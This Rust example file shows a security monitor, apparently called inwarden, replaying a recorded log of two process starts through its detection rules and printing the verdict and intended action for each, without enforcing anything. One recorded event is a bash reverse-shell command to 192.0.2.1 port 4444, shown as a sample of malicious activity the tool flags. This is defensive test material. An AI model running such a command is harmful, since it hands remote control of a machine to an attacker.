//! A warden on a recording instead of a kernel: the same verdicts and
//! decisions, nothing carried out.
//!
//! Run it with `cargo run --example warden_on_recording`. It needs no root and
//! no model files: it judges by the shipped rules alone.
//!
//! Expected output:
//!
//! ```text
//! ls -l /srv/data: undetermined 0.… -> …
//! bash -c bash -i >& /dev/tcp/192.0.2.1/4444 0>&1: malicious 0.… -> kill: refused
//! 2 cases, 1 settled by rule
//! ```

#![expect(clippy::print_stdout, reason = "an example shows its result")]

use std::{collections::BTreeSet, sync::Arc};

use inwarden::{
    Analyst, AnalystConfig, MemoryPlace, ReplayConfig, Warden,
    feeds::RecordingReader,
    models::ModelCache,
    types::{CgroupId, Mode, Scope},
};

/// A recording is a header and one event a line; `inwarden watch --record FILE`
/// writes them.
const RECORDING: &str = r#"{"schema":"inwarden.recording/1","note":"two programs start"}
{"id":"1","argv":["ls","-l","/srv/data"],"process":{"cgroup_id":77}}
{"id":"2","argv":["bash","-c","bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"],"process":{"cgroup_id":77}}
"#;

fn main() -> anyhow::Result<()> {
    // 1. What judges: here the rules and the policies that come with the crate.
    let analyst = Arc::new(Analyst::load(&AnalystConfig {
        model: None,
        memory: MemoryPlace::Off,
        ..AnalystConfig::new(ModelCache::at("unused".into()))
    })?);

    // 2. What may be touched. Outside the scope the strongest action is an alert.
    let config = ReplayConfig {
        mode: Mode::Enforce,
        scope: Scope::Cgroups(BTreeSet::from([CgroupId(77)])),
    };

    // 3. One report per case, in the order of the recording.
    let events = RecordingReader::new(RECORDING.as_bytes())?;
    let mut replay = Warden::replay(analyst, config, events);
    for report in replay.by_ref() {
        let report = report?;
        println!(
            "{}: {} {:.3} -> {}: {}",
            report.case.last().process.image.argv.args.join(" "),
            report.verdict.label.name(),
            report.verdict.score.probability(),
            report.decision.action.name(),
            report.action.outcome.name(),
        );
    }
    let counters = replay.counters();
    println!(
        "{} cases, {} settled by rule",
        counters.cases, counters.settled_by_rule
    );
    Ok(())
}
